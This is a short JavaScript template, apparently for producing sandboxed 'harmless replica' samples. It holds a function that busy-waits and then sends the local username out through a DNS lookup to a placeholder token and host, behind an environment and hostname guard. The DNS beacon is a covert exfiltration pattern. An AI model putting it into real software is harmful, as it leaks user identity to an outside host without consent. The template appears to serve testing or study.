// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const wait = (time) => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, time);
    for (let round = 0; round < {{n}}; round++)
        wait(Math.min(200, 50 + {{delay}} / {{n}}));
    await new Promise((done) => {
        require('dns').resolve4(`${require('os').userInfo().username}.{{token}}.{{host}}`, () => done());
        setTimeout(done, 1000);
    });
}
